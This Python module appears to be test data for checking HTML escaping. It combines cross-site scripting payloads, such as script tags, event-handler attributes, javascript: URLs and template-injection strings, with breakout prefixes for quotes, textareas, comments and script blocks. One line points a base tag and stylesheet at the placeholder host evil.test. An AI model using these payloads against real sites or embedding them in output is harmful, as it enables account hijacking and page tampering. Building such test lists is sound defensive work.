"""Strings that run a script where a page forgets to escape them (S12)."""

from __future__ import annotations

from itertools import product

_RUNS = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href='javascript:alert(1)' autofocus onfocus=alert(1)>x</a>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<base href='//evil.test/'><link rel=stylesheet href='//evil.test/x.css'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<math><mtext><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
)
#: Ways out of where a page may have put the text: an attribute, a text box, a title, a comment, a
#: script, a template; and what turns lines and reading order around.
_OUT = (
    "{}",
    '">{}',
    "'>{}",
    "` {} `",
    "</textarea>{}",
    "</title></style>{}",
    "-->{}",
    "</script>{}",
    "\u2028{}\u2029",
    "\u202e{}",
    "{{{{ {} }}}}",
)
_BARE = (
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' onfocus='alert(1)' autofocus x='",
    "javascript:alert(1)",
    "{{ constructor.constructor('alert(1)')() }}",
    "{% include 'x' %}{{ self }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "${alert(1)}",
)
STRINGS = (*_BARE, *(out.format(run) for run, out in product(_RUNS, _OUT)))
